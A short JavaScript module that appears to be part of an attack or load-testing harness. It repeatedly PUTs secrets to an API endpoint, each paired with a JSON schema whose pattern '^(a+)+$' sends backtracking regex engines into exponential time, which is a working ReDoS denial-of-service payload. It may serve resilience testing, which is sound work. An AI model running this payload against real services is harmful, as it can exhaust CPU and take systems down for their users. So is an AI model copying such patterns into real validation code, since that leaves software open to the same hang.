/** Takes exponential time in an engine that tries one way after the other. */
const SCHEMA = { type: 'string', pattern: '^(a+)+$' };
const VALUE = `${'a'.repeat(32)}!`;

/** Writes values whose schema is a regular expression that never comes to its end. */
export function hostileSchemas(attack) {
  attack.repeat((connection) => {
    const body = { value: VALUE, schema: SCHEMA, update_if_exists: true };
    return attack.request('PUT', `/api/v3.1/secrets/pattern.${connection}`, body);
  });
}
